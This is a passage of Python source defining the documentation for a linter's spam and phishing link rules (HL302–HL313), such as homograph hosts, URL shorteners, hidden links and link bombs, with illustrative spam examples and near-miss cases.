            An author's own sign-off ("feel free to visit my webpage
            [https://me.example](https://me.example/)", a link whose text shows its own
            address, or a link to `own-domains`), a sentence a project writes about itself
            ("Please visit our website for bug reports"), and a real reader's comment
            ("[Ana Costa](https://ana.example/) — great post, but example 2 fails on 3.12":
            a person's name, and a comment about the page) pass.
            """
        ),
    ),
    RuleDoc(
        code="HL302",
        name="keyword-stuffed-phrase",
        summary="Keyword phrase stuffed repeatedly through unrelated prose",
        what=_t(
            """
            Reports a keyword phrase repeated to push a link's anchor text, in three cases:

            - one commercial phrase (a trade or service word in it: "dental implants
              cost", "cheap roof repair") linked three times or more to the same unrelated
              site; a product's "free download" or "online demo" link repeated passes;

            - the anchor X of an HL301 template occurs again elsewhere in the file (each
              occurrence is reported);
            - a Title-Case phrase of two to four words is the text of a link to another
              site, occurs at least three times, is pushed into the middle of another name
              at least once ("met Director Turkish Law Firm William Burns"), and its words
              occur nowhere else in the text: it belongs to no sentence around it.

            A link whose text names its own target ("[Red Hat](https://www.redhat.com/)"),
            a person's name linked to their profile page (`twitter.com/name`,
            `linkedin.com/in/name`, `/@name`: citing a person pushes no keyword), product
            names a text keeps using ("Red Hat Enterprise Linux"), and a phrase used
            naturally ("Turkish law firm" in the README of a law firm's own project) pass.
            Headings, table cells, code comments and gettext catalogues are not searched
            for the second case.
            """
        ),
        why=_t(
            """
            Stuffing one keyword phrase through a text is an old search-engine trick. It
            makes the document unreadable, and it marks the change as spam even when no
            link is visible nearby.
            """
        ),
        example=_t(
            """
            The minister met Director Turkish Law Firm William Burns on Monday; the talks
            covered Turkish Law Firm trade, sponsored by the
            [Turkish Law Firm](https://cheap-deals.example/), and border security.
            """
        ),
        fix=_t(
            """
            Remove the inserted phrase and restore the sentences. If the phrase is a real
            name your project repeats on purpose, add it to `allow-phrases`.
            """
        ),
        options=_switches("HL302") + _ALLOW_PHRASES,
        near_miss=_t(
            """
            A conference recap that thanks "[Dana Whitfield](https://twitter.com/danawhit)"
            three times, once as "Chief Host Officer Dana Whitfield": the name links to its
            own profile.
            """
        ),
    ),
    RuleDoc(
        code="HL303",
        name="link-text-host-mismatch",
        summary="Link text names a different host than the link target",
        what=_t(
            """
            Reports a link whose visible text is a URL or a host name, while the link
            itself goes to another site. Both sides are compared after IDNA decoding, with
            `www.`, trailing slashes, paths and fragments normalised away, and hosts of
            the same registrable domain (from the Public Suffix List) count as one site,
            so `[www.python.org](https://python.org/downloads/)` and
            `[docs.python.org](https://python.org/doc/)` pass.

            A bare name counts as an address only when it is written in lowercase and ends
            in a top-level domain that is not also a file extension: `README.md`,
            `setup.py`, `community.general` or `Socket.IO` are names, not addresses, and so
            is a bare name in a code span (``[`theme.name`][config]`` links a setting; a
            whole URL in a code span is still an address). A project named like a domain
            and linked to its repository (`[socket.io](https://github.com/socketio/socket.io)`)
            or to its own site, and a link to a web archive's copy of the named page, pass.
            """
        ),
        why=_t(
            """
            Readers trust the address they can see; the rendered page hides the real
            target. A link that shows one host and opens another is the classic phishing
            move, and in a download or install instruction it can hand users someone
            else's file.
            """
        ),
        example=_t(
            """
            [https://github.com/psf/requests](https://requests-download.example.net/setup.zip)
            """
        ),
        fix=_t(
            """
            Make text and target agree: show the address the link really opens, or point
            the link at the host its text names. Descriptive text ("the requests
            repository") avoids the question altogether.
            """
        ),
        options=_switches("HL303") + _OWN_DOMAINS,
        near_miss=_t(
            """
            `[docs.python.org](https://python.org/doc/)` (one registrable domain), and
            `[socket.io](https://github.com/socketio/socket.io)` (a project named like a
            domain, linked to its repository).
            """
        ),
    ),
    RuleDoc(
        code="HL304",
        name="homograph-host",
        summary="Homograph or punycode host imitates another domain",
        what=_t(
            """
            Reports a link host with a label that mixes lookalike letters into an ASCII
            label (`аpple` with a Cyrillic `а`), or that is written entirely in lookalikes
            of an ASCII label under a name that as a whole passes for an ASCII one,
            whether the host is written in Unicode or in punycode (`xn--…`, decoded with
            IDNA 2008). Single-script internationalised domains such as `bücher.de`,
            `kırmızı.com.tr` or `пример.рф` pass, and so do examples in code spans and
            code blocks.
            """
        ),
        why=_t(
            """
            The domain looks like one you know and belongs to someone else. Homograph
            domains are registered for phishing and for look-alike download pages; the
            punycode form hides the trick from anyone who does not decode it.
            """
        ),
        example=_t(
            """
            https://xn--pple-43d.com/ (decodes to `аpple.com`, whose first letter is
            CYRILLIC SMALL LETTER A, U+0430)
            """
        ),
        fix=_t(
            """
            Link to the real domain. If a legitimate internationalised domain is reported,
            add it to `allow-domains`.
            """
        ),
        options=_switches("HL304") + _OWN_DOMAINS,
        near_miss=_t(
            """
            `https://bücher.de/` or `https://пример.рф/`: a name written in one script
            that does not pass for an ASCII one.
            """
        ),
    ),
    RuleDoc(
        code="HL305",
        name="url-shortener",
        summary="URL shortener or redirector hides the link target",
        what=_t(
            """
            Reports links that go through a URL shortener (bit.ly, tinyurl.com, t.co, dub.sh,
            corta.co and the like) or through a redirector that forwards to a URL carried in
            its query (`https://www.google.com/url?q=…`), and says so more loudly behind link
            text that promises a download. Shorteners are also recognised by shape: a host
            built on a shortener's name with a short code for a path (`tinyurls.click/x1`,
            `theyourl.xyz/abc`, the look-alikes streaming spam uses), and a self-hosted
            shortener path on any host (`/yourls/3bt`, `/r/x7K2`).

            Only a short code is a short link: the service's own pages (`dev.bitly.com/…`,
            `cutt.ly/api-documentation/…`, `shrtco.de/docs`) pass. So does a project's chat
            invite, whose text or code names the chat (`[our Slack](https://bit.ly/xyz-chat)`,
            "Discord", "Gitter", "community"): invite URLs are long and expire, which is why
            projects shorten them. A share button (`t.me/share/url?url=…`,
            `facebook.com/sharer.php?u=…`) opens a form that shares a page, not a redirect,
            and passes too. Official first-party short links pass by default: aka.ms,
            go.microsoft.com/fwlink, youtu.be, forms.gle, g.co, goo.gle, git.io, redd.it,
            t.me, discord.gg, wa.me, fb.me and wp.me.
            """
        ),
        why=_t(
            """
            Nobody reviewing the change can see where the link leads, and its owner can
            point it somewhere else after the change is merged. Spam and malware
            downloads hide behind shorteners for exactly that reason; betting, pill and
            streaming spam use look-alike and self-hosted shorteners to dodge the known
            ones.
            """
        ),
        example=_t(
            """
            [Download the installer](https://bit.ly/3xAmpl3)
            """
        ),
        fix=_t(
            """
            Replace the short link with the full address it resolves to (for example, read
            the `Location` header printed by `curl -sI https://bit.ly/3xAmpl3`) after
            checking that address.
            """
        ),
        options=_switches("HL305")
        + "\n\n`allow-shorteners` adds shortener domains you trust, such as your\n"
        "organisation's own." + _OWN_DOMAINS,
        near_miss=_t(
            """
            "Questions? Ask in [our Discord](https://bit.ly/3kQ8pLm)." (a chat invite), a
            table of shortener APIs linking to `https://dev.bitly.com/get_started.html`,
            and a "Share on Telegram" button `https://t.me/share/url?url=https://github.com/o/r`.
            """
        ),
    ),
    RuleDoc(
        code="HL306",
        name="commercial-spam-anchor",
        summary="Commercial spam anchor text or keyword domain",
        what=_t(
            """
            Reports links whose text, domain or path belongs to the usual spam trades:
            gambling and betting, pharmacy with a call to buy, essay writing, escorts, payday
            loans, replica goods, fake support phone numbers, selling backlinks or traffic,
            crypto airdrops and crypto-recovery "hackers", fake diplomas, pirate streaming,
            cracked software, supplements, and match tickets and streams.

            Trades are matched by the grammar of a sales line, not by product lists:
            `(buy|order|purchase) X online (overnight|without prescription|cheap)`, "click
            here for order", "write my essay for cheap", "essay help", `<brand>bet giriş`
            (the Turkish betting-mirror login), "visit X casino", "login X slot",
            "buy fake degree", `办理…毕业证`, "whitehat SEO backlinks", "keyword targeted
            traffic", "bitcoin recovery expert", "watch X full movie online free",
            "X vs Y live stream", in several languages ("slot gacor", "canlı bahis",
            "купить диплом", "代写", "película completa online").

            The strongest frames are also read in running text, when a link to another
            site (a bare URL, a link, a URL in a code span or a data field) stands within
            a few lines: "buy X without a prescription", "buy fake degree", "dofollow
            backlinks", "X full movie online free", "call girls in X", and the
            crypto-recovery testimonial (money lost, a "hacker" who got it back, and a
            recommendation). A credit line ("Designed by", "Theme by", "In collaboration
            with") that links a keyword phrase ("best web hosting") to a site it does not
            name is the sponsored footer link of a free theme.

            A keyword domain is a domain name built from such words. Names are split into
            tokens at word boundaries (label edge, hyphen, digit): `lidyabet`, `22bet`,
            `tramadoldrugstore`, `ukessayslondon`, `fakediploma58`, `123movies` are
            keyword domains, `alphabet`, `bethesda`, `tibet`, `diplomacy` and `essayist`
            are not. A trade read from a token is reported only when the link text does
            not already say what is sold. A link's path is read the same way
            (`/call-girls-in-city.html`), except on hosts whose paths are titles of
            other people's pages (GitHub, Stack Overflow, YouTube, Reddit, Medium …).

            Single words are not enough: a link about the Casino de Monte-Carlo, or a drug
            name such as "Tramadol" linked to DrugBank, passes, and links to reference
            works (Wikipedia, DrugBank, the NIH, the WHO) are never judged by their text.
            """
        ),
        why=_t(
            """
            Such links have nothing to do with your project. They are placed to borrow its
            reputation for search ranking, and they send your readers to scams. Each
            trade here is a family of spam that real repositories receive in issues, wiki
            pages, Staticman comments and forked READMEs.
            """
        ),
        example=_t(
            """
            Stuck on homework? [buy essay online cheap](https://essays-fast.example/)
            [slot gacor hari ini](https://slot-gacor.example/)
            """
        ),
        fix=_t(
            """
            Remove the link, and usually the whole contribution. For a legitimate phrase
            or domain that is reported, use `allow-phrases` or `allow-domains`.
            """
        ),
        options=_switches("HL306") + _ALLOW_PHRASES + _OWN_DOMAINS,
        near_miss=_t(
            """
            A pharmacy *project*: "A full online pharmacy shop: users add medicines to the
            cart and purchase them. Demo: [medicart demo](https://medicart-demo.example/)".
            An essay-scoring project linking to Kaggle, a poker server named
            `casino-server`, "Giriş" (introduction) headings of a Turkish course.
            """
        ),
    ),
    RuleDoc(
        code="HL307",
        name="hidden-link",
        summary="Hidden link, rel=dofollow or keyword-stuffed link title",
        what=_t(
            """
            Reports links to other sites that readers cannot see: an HTML anchor, or any
            link inside an element, styled `display:none`, `visibility:hidden`,
            `font-size:0`, `opacity:0`, positioned or indented far off-screen (`left:-9999px`,
            `text-indent:-9999px`, `left:-99%`), clipped or scaled to nothing
            (`clip:rect(0,0,0,0)`, `transform:scale(0)`, `font-size:1px`), coloured like its
            background or transparent, or marked `hidden`. It also reports the tells of SEO link
            building: `rel="dofollow"` (not a real rel value) and a `title` attribute
            stuffed with repeated keywords or spam terms.

            A hidden link into the page's own site passes: links within the page
            (`href="#content"`, the usual off-screen "Skip to content" link), links to a
            site the page visibly links to twice or more, a theme's hidden tag or author
            microformat (`rel="tag"` to a `/tag/` page), a hidden button into the same path
            as the page's own relative links (an owner-only "Admin" button), and links to
            `own-domains` (which include `[project.urls]` and Poetry's URLs). So does a
            link inside a widget a script opens: an element hidden by `display:none`,
            `visibility:hidden` or `hidden` whose class or id names a menu, navigation,
            dropdown, drawer, modal, popup, tab or toggle (`<div class="mobile-menu"
            style="display:none">`), or whose ARIA role is a tab panel, dialog, menu, list
            box or tooltip (`<div role="tabpanel" hidden>`, shown when its tab is chosen),
            is in a state, not in a hiding place. An off-screen
            position, zero-size text or a matching colour is no widget state, whatever the
            element is called.
            """
        ),
        why=_t(
            """
            A hidden link exists only for search-engine crawlers. Readers never see it on
            the rendered page, and a reviewer who looks at the rendered page will not see
            it either. Free themes and slider widgets ship such backlinks in their footers.
            """
        ),
        example=_t(
            """
            <a href="https://pills.example/" style="display:none">cheap pills</a>
            <a href="https://site.example/" rel="dofollow" title="best casino best slots">x</a>
            """
        ),
        fix=_t(
            """
            Delete the hidden link. A link that belongs in the document should be visible
            and needs no rel or title tricks.
            """
        ),
        options=_switches("HL307") + _OWN_DOMAINS,
        near_miss=_t(
            """
            A saved article of news.example that hides its own tag list:
            `<span style="display:none"><a href="https://news.example/tag/tor/"
            rel="tag">tor</a></span>`, and a hidden mobile menu linking the project's own
            site.
            """
        ),
    ),
    RuleDoc(
        code="HL308",
        name="denied-domain",
        summary="Link to a domain on the project's deny list",
        what=_t(
            """
            Reports links to domains that match the project's deny list: a file of
            regular-expression fragments, one per line, in the style of MediaWiki's
            SpamBlacklist (`#` starts a comment, blank lines are ignored). As there, a
            fragment is matched case-insensitively against the host and path of the link,
            starting anywhere in the host name, so `spam-links` also catches
            `www.spam-links.example/offer`. Nothing is denied until `deny-list` names such
            a file.
            """
        ),
        why=_t(
            """
            Spam domains come back again and again. A shared list lets maintainers refuse
            the ones they have already seen without reviewing each new attempt by hand.
            """
        ),
        example=_t(
            """
            With a deny list containing the line `cheap-pills\\.example`, the link
            `[pharmacy](https://www.cheap-pills.example/offer)` is reported.
            """
        ),
        fix=_t(
            """
            Remove the link. If the entry is wrong, change the deny list.
            """
        ),
        options=_switches("HL308")
        + '\n\n`deny-list = "spam-domains.txt"` in `[tool.hooklint]` names the file of\n'
        "regular expression fragments." + _OWN_DOMAINS,
        near_miss=_t(
            """
            Nothing is reported without a `deny-list` file.
            """
        ),
    ),
    RuleDoc(
        code="HL309",
        name="affiliate-tracking-link",
        summary="Affiliate or referral tracking parameters on a foreign link",
        what=_t(
            """
            Reports affiliate and referral parameters on links to domains that are not the
            project's own: Amazon's `tag=name-20` and `ref=as_li…`, `aff_id=`, `affid=`,
            `ascsubtag=`, `linkCode=`, `irclickid=`, `clickref=`, `refcode=` and similar,
            and links through affiliate networks (click.linksynergy.com, prf.hn, …).
            Campaign parameters (`utm_*`) pass, `ref=main` and `?tag=python` pass, tags on
            links to the project's own domains pass, and so does a link that says what it
            is: a "referral badge", an "affiliate link" or a "sponsor" in its text.
            """
        ),
        why=_t(
            """
            A link with someone's affiliate tag earns that person money from your readers'
            clicks and purchases. Added in a drive-by contribution, it monetises your
            documentation for a stranger without telling anyone.
            """
        ),
        example=_t(
            """
            [the book](https://www.amazon.com/dp/0000000000?tag=someone-20)
            """
        ),
        fix=_t(
            """
            Drop the tracking parameters: `https://www.amazon.com/dp/0000000000`. If the
            tag is the project's own arrangement, add the domain to `own-domains` or
            `allow-domains`.
            """
        ),
        options=_switches("HL309") + _OWN_DOMAINS,
        near_miss=_t(
            """
            `[Coders at Work (affiliate link)](https://www.amazon.com/dp/0000000000?tag=me-20)`:
            the text discloses it.
            """
        ),
    ),
    RuleDoc(
        code="HL310",
        name="scraped-page-boilerplate",
        summary="Scraped web-page boilerplate pasted into prose",
        what=_t(
            """
            Reports the interface text of blog and CMS pages that comes along when a page
            is copied wholesale: two different labels of a comment form or sharing block
            close together, at least one of them one that only such pages have ("Leave a
            Reply … Your email address will not be published. Required fields are marked
            *", "Share this: … Like this:"). The WordPress comment form is recognised in
            the languages sites are built in: Chinese (电子邮件地址不会被公开), Russian,
            Spanish, Portuguese, German, French, Italian, Dutch, Polish, Turkish and
            Japanese.

            It is the page's own interface, not copied text, in a template that has the
            form itself (`<form>`, `<textarea>`, `<input>` in the file); a text that quotes
            catalogue entries (`msgid`/`msgstr`) and a gettext `.po`/`.pot` catalogue that
            translates such strings are not searched. A single "Like this:" in a sentence
            passes.
            """
        ),
        why=_t(
            """
            It shows that the text was scraped from a web page or assembled by a bot
            rather than written for your project. It often travels with spam links, and
            copied content may also carry licence problems.
            """
        ),
        example=_t(
            """
            Leave a Reply
            Your email address will not be published. Required fields are marked *
            """
        ),
        fix=_t(
            """
            Remove the boilerplate, and check where the rest of the text was copied from.
            If your project really documents such strings, add them to `allow-phrases`.
            """
        ),
        options=_switches("HL310") + _ALLOW_PHRASES,
        near_miss=_t(
            """
            A theme template `<div id="respond"><h3>Leave a Reply</h3><form …><p>Your email
            address will not be published.</p><textarea …>` (the form's own labels), and a
            plugin readme quoting `msgid "Leave a reply"`.
            """
        ),
    ),
    RuleDoc(
        code="HL311",
        name="leaked-spintax",
        summary="Unresolved spintax left in prose",
        what=_t(
            """
            Reports spinner syntax that was never expanded: braces holding word
            alternatives separated by `|`, such as `{adored|loved|liked}`, left in prose.
            It takes two such groups in a paragraph, an alternative of several words
            (`{short article|write-up}`) or a word spinners use (`{Hi|Hello}`); a single
            group of single words such as `{start|stop|restart}` in a usage line passes.
            Type unions are not spintax: a group after a JSDoc tag (`@param {string|number}`)
            or one whose alternatives name types (`{string|number|Array}`, `{int|None}`)
            passes, in JavaScript comments and source maps alike. Code blocks and code
            spans are skipped, so shell brace expansion, regular expressions and templates
            shown as code pass, and so do template braces (`{{ value|default }}`).
            """
        ),
        why=_t(
            """
            Unexpanded spintax is the fingerprint of an automated spam tool whose template
            failed to render. No person writes it in a sentence.
            """
        ),
        example=_t(
            """
            {If|In case} you {adored|loved|liked} this {post|article}, {visit|check out} our
            site.
            """
        ),
        fix=_t(
            """
            Remove the text; the contribution is spam. If your own docs use the notation
            to list choices, put it in a code span: `{true|false}`.
            """
        ),
        options=_switches("HL311"),
        near_miss=_t(
            """
            `@param {string|number|Array} value` in a JSDoc comment.
            """
        ),
    ),
    RuleDoc(
        code="HL312",
        name="link-bomb",
        summary="Link bomb: a run of links to many different sites none of them names",
        what=_t(
            """
            Reports a run of links (at most three words between one link and the next)
            of eight links or more, nearly all to different sites (six at least), whose
            anchors are short (a fragment, a number, one or two words) or keyword phrases
            (three lowercase words or more: "cheap roof repair") and do not name their
            host. The finding points at the first link and gives one anchor and its
            site as an example.

            The rule judges the shape of the run, never a word in it. An awesome list or a
            friend-links section names each site in its anchor (`Bagisto` → bagisto.com) or
            describes each entry between the links; a changelog links into one project; a
            row of badges is images; a table that labels every link "website" or "demo"
            describes its entries. An acronym or region code that starts a host label names
            it (`IBM` → ibm.com, `EU` → eu.mirror.example). An anchor in a script that
            cannot spell a Latin host name (Chinese, Japanese, Korean: `淘宝网` may well be
            taobao.com) and a link to a person's profile are left out of the count.
            """
        ),
        why=_t(
            """
            Link bombs (posted by XRumer-style bots into wikis, comment forms and
            Staticman pull requests) exist to pass ranking to dozens of doorway domains at
            once. Their anchors are word fragments because no reader is meant to click
            them.
            """
        ),
        example=_t(
            """
            <a href="http://alpha-gear.example/t/1">уда</a> <a href="http://bold-moon.example/t/2">Sah</a>
            <a href="http://cold-river.example/t/3">DVD</a> <a href="http://deep-lake.example/t/4">жен</a>
            <a href="http://east-wind.example/t/5">Can</a> <a href="http://fast-ship.example/t/6">165</a>
            <a href="http://gray-rock.example/t/7">Win</a> <a href="http://high-hill.example/t/8">XXL</a>
            """
        ),
        near_miss=_t(
            """
            An awesome-list section: `- [Bagisto](https://bagisto.com/) - Laravel shop.`,
            `- [Saleor](https://saleor.io/) - GraphQL commerce.` … (each anchor names its
            site, and a description stands between the links), and a Chinese friend-links
            row `[淘宝网](https://www.taobao.com/)[天猫](https://www.tmall.com/)…`.
            """
        ),
        fix=_t(
            """
            Remove the links; the contribution is spam. A legitimate list of sites should
            name each site or say what it is.
            """
        ),
        options=_switches("HL312") + _OWN_DOMAINS,
    ),
    RuleDoc(
        code="HL313",
        name="styled-letter-link",
        summary="Words in styled letters beside a link to an unrelated site",
        what=_t(
            """
            Reports a word of four letters or more written in fullwidth Latin letters
            (`ＷＡＴＣＨ`) or in mathematical alphanumerics (bold, italic, script,
            double-struck: `𝐂𝐋𝐈𝐂𝐊`) whose styled words call to action (watch, click,
            here, download, free, live, stream, join, claim …), within a few lines of a link
            to a site that is not trusted, not a reference work or code host, and not named
            by the link text. It is reported once per file,
            besides the letter findings of the confusable rules (HL102, HL103), which say
            which characters they are. Fullwidth letters inside Chinese, Japanese or Korean
            text, where they are ordinary typesetting (`ＵＳＢメモリ`), are not counted.
            """
        ),
        why=_t(
            """
            Pirate-streaming and giveaway spam writes its call to action ("WATCH HERE",
            "CLICK HERE TO DOWNLOAD") in styled letters, so that filters matching plain words
            miss it, and puts a shortener or a mirror site right beside it.
            """
        ),
        example=_t(
            """
            🎬 ＷＡＴＣＨ | ＨＥＲＥ 🎬 [stream](https://mirror-films.example/x)
            """
        ),
        near_miss=_t(
            """
            A Japanese README that writes `ＰＣ版` and `ＵＳＢメモリ` and links to other
            sites, a maths note with `𝑥` and `𝑦` (single styled letters), and an abstract
            that sets a benchmark's name in monospace letters (`𝙾𝚙𝚎𝚗 𝙻𝙻𝙼 𝙻𝚎𝚊𝚍𝚎𝚛𝚋𝚘𝚊𝚛𝚍`).
            """
        ),
        fix=_t(
            """
            Remove the text and its link. If styled letters are part of your own project's
            name or art, link to `own-domains`, or silence the line.
            """
        ),
        options=_switches("HL313") + _OWN_DOMAINS,
    ),
)

SPAM_PLACES = _t(
    """
    The spam rules read every place spam lands in a repository, each where it is text:

    - Markdown, reStructuredText, HTML pages and plain text; gettext catalogues and the
      comments and docstrings of Python source when they hold a template's words or a
      punycode host.
    - Front matter (the YAML between `---` lines at the top of a Markdown or HTML file):
      each string value is text, reported at its own line and column, escapes (`\\"`,
      `\\r\\n`, `&#39;`) decoded.
    - The string values of YAML, JSON and SQL files (`.yml`, `.yaml`, `.json`, `.jsonl`,
      `.ndjson`, `.sql`) that hold a link (`://`, `www.`): Staticman entries, comment
      exports, the `INSERT` or `COPY` rows of a dump. A record with a name, a URL field and
      a text (`author`, `author_url`, `content`; `name`, `url`, `message`; a `wp_comments`
      row, named by its column list or by the shape of the row) is one comment: its URL is
      the link its name carries, and is judged with what it says. So is a page whose front
      matter signs it (a name and a URL or e-mail, no title or layout: a Staticman entry
      kept as a page). Package-manager lock files are not read; a data file over 16 MiB is
      read as plain text.
    - The markup of page templates (`.php`, `.phtml`, `.erb`, `.jinja`, `.jinja2`, `.j2`,
      `.twig`, `.liquid`, `.hbs`, `.handlebars`, `.mustache`, `.njk`, `.ejs`, `.jsp`,
      `.asp`, `.aspx`, `.tpl`, `.tmpl`, `.gohtml`, `.vue`) that hold a
      link or an `href`, and of HTML pages that hold such code: the template's code
      (`<?php … ?>`, `<% … %>`, `{{ … }}`, `{% … %}`, script and style elements) is left
      out, but markup a PHP string prints (`echo '<a href=…>'`) is kept; the links with
      their anchors and styles are read as in HTML.

    Other source code is not read for spam: its comments cannot be told from its code in
    every language. Style sheets (`.css`, `.scss`, `.less`) are code too (a link in their
    comments cites a browser workaround), and so are source maps (`app.min.js.map`), which
    carry their sources' comments. The character rules (HL1xx, HL2xx) read all of these files
    as before; YAML, JSON, SQL, PHP and Vue files, style sheets and source maps count as code
    for HL107.
    """
)

# The rules that file names are judged by (hooklint/names.py) say so in their options.
_FILE_NAME_CODES = frozenset(
    ("HL101", "HL102", "HL103", "HL104", "HL201", "HL202", "HL203", "HL204", "HL205")
)
_FILE_NAMES = (
    "\n\nFile names are text too: the path of every file checked (each directory in it,\n"
    "and the staged paths of `--staged`) is read like a line of the file, with the same\n"
    "judgement. A finding in it is reported once per file, at `1:1`, under the code of its\n"
    "most serious finding, with a message that begins `in the file name`."
)

RULES: dict[str, RuleDoc] = {
    doc.code: doc._replace(options=doc.options + _FILE_NAMES)
    if doc.code in _FILE_NAME_CODES
    else doc
    for doc in sorted(_DOCS, key=lambda d: d.code)
}
"""Every rule code with its documentation, in code order."""


def explain(code: str) -> str | None:
    """The full text for `--explain CODE` (case-insensitive code), or None for an unknown code."""
    doc = RULES.get(code.strip().upper())
    if doc is None:
        return None
    sections = (
        ("What it does", doc.what),
        ("Why is this bad?", doc.why),
        ("Example", doc.example),
        *((("Near miss (not reported)", doc.near_miss),) if doc.near_miss else ()),
        ("Use instead", doc.fix),
        ("Options", doc.options),
        *((("Where it looks", SPAM_PLACES),) if doc.code.startswith("HL3") else ()),
    )
    parts = [f"{doc.code} ({doc.name})"]
    # Strip only blank lines: a body may start with an indented code line.
    parts.extend(f"## {header}\n" + body.strip("\n") for header, body in sections)
    return "\n\n".join(parts) + "\n"
